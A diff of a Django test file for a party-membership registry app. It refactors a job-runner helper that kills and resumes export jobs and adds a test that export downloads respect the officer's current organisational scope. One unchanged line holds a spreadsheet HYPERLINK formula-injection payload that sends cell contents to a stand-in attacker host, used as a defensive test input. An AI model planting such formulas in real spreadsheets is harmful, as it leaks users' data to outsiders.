@@ -10,21 +10,14 @@ from __future__ import annotations
 
 import datetime as dt
 import io
-import os
-import signal
-import subprocess
-import sys
-import time
 import zipfile
 from pathlib import Path
 from typing import Any
-from urllib.parse import quote
 
 import openpyxl
 import pytest
 from django.core.management import call_command
 from django.core.management.base import CommandError
-from django.db import connection
 from django.test import Client
 
 from partycard.accounts.models import Role, User
@@ -43,10 +36,10 @@ from partycard.registry.importing import import_roster
 from partycard.registry.jobs import EXPORT, start_export
 from partycard.registry.models import Member
 from partycard.registry.roster import COLUMNS
+from tests.job_runner import job_runner, kill_after_chunks
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
 MEMBERS = 7
-PARTYCARD = Path(sys.executable).with_name("partycard")
 FIELDS = [
     "organisation__code", "full_name", "gender", "date_of_birth", "citizen_id", "status", "date_admitted",
     "date_official", "ethnicity", "home_town", "occupation",
@@ -221,6 +214,30 @@ def test_only_the_officer_who_asked_downloads_while_in_scope(
     assert AuditEvent.objects.filter(action="job.file_download").count() == 1  # only the one allowed
 
 
+def test_a_file_whose_organisation_moved_out_of_the_scope_is_no_longer_downloadable(
+    tree: Any, roster: list[Member], login: Any, small_limits: Path
+) -> None:
+    """The scope is checked at each download against the exported organisation where it is now: the school
+    exported by Ba Đình's officer, moved to Huế since, takes its file with it (the same 404 as a missing
+    one); so does a change of the officer's role to one that may not export."""
+    officer = _officer("phuong", tree.ba_dinh)
+    client, job = _start(login, officer, "HN-BD-01")
+    job_run(job.pk)
+    url = f"/tac-vu/{job.pk}/tai-ve/"
+    assert client.get(url).status_code == 200
+    assert url in client.get(f"/tac-vu/{job.pk}/").content.decode()
+
+    services.organisation_move(actor=None, organisation=tree.school, new_parent=tree.thuan_hoa)
+    assert client.get(url).status_code == 404
+    assert url not in client.get(f"/tac-vu/{job.pk}/").content.decode()
+    services.organisation_move(actor=None, organisation=tree.school, new_parent=tree.ba_dinh)
+    assert client.get(url).status_code == 200  # back in the subtree: the file is theirs again
+
+    User.objects.filter(pk=officer.pk).update(role=Role.MEMBER)
+    assert client.get(url).status_code == 404
+    assert AuditEvent.objects.filter(action="job.file_download").count() == 2  # only the two allowed
+
+
 def test_an_expired_file_is_refused_then_deleted_by_the_sweep(
     tree: Any, roster: list[Member], login: Any, small_limits: Path, django_capture_on_commit_callbacks: Any
 ) -> None:
@@ -327,29 +344,6 @@ def test_the_command_line_export_acting_as_an_officer_stays_in_scope(
     assert event.actor_id == officer.pk
 
 
-def _test_database_url() -> str:
-    s = connection.settings_dict
-    auth = quote(s["USER"] or "", safe="") + (f":{quote(s['PASSWORD'], safe='')}" if s["PASSWORD"] else "")
-    return f"postgres://{auth}@{s['HOST'] or 'localhost'}:{s['PORT'] or 5432}/{quote(s['NAME'], safe='')}"
-
-
-def _runner(job: Job, files: Path, *, pause: str) -> subprocess.Popen[str]:
-    env = {
-        **os.environ,
-        "DATABASE_URL": _test_database_url(),
-        "DJANGO_SETTINGS_MODULE": "partycard.settings.test",
-        "PARTYCARD_JOB_CHUNK_PAUSE": pause,
-        "PARTYCARD_JOB_FILES_DIR": str(files),
-    }
-    return subprocess.Popen(
-        [str(PARTYCARD), "job", "run", str(job.pk), "--no-progress"],
-        env=env,
-        stdout=subprocess.PIPE,
-        stderr=subprocess.PIPE,
-        text=True,
-    )
-
-
 @pytest.mark.postgres
 @pytest.mark.django_db(transaction=True)
 def test_an_export_runner_killed_mid_job_is_resumed_and_writes_each_member_once(
@@ -358,24 +352,14 @@ def test_an_export_runner_killed_mid_job_is_resumed_and_writes_each_member_once(
     """SIGKILL of ``partycard job run`` between chunks; run again: the file holds every member once."""
     officer = _officer("tinh", tree.hanoi)
     client, job = _start(login, officer, "HN")
-    runner = _runner(job, small_limits, pause="0.3")
-    deadline = time.monotonic() + 60
-    try:
-        while JobChunk.objects.filter(job=job).count() < 2:
-            if runner.poll() is not None:
-                pytest.fail(f"the runner ended before it was killed: {runner.communicate()}")
-            assert time.monotonic() < deadline, "the runner did not start within a minute"
-            time.sleep(0.02)
-        runner.send_signal(signal.SIGKILL)
-    finally:
-        if runner.poll() is None:
-            runner.kill()
-        runner.communicate(timeout=30)
+    files = {"PARTYCARD_JOB_FILES_DIR": str(small_limits)}
+    runner = job_runner(job, pause="0.3", env=files)
+    kill_after_chunks(job, runner)
     partial = Job.objects.get(pk=job.pk)
     assert partial.status == Job.Status.RUNNING and 2 <= partial.chunks_done < partial.chunk_count
     assert not JobFile.objects.filter(job=job).exists()
 
-    resumed = _runner(job, small_limits, pause="0")
+    resumed = job_runner(job, pause="0", env=files)
     out, err = resumed.communicate(timeout=120)
     assert resumed.returncode == 0, err
     assert f"Job #{job.pk} done: {MEMBERS} ok, 0 failed." in out
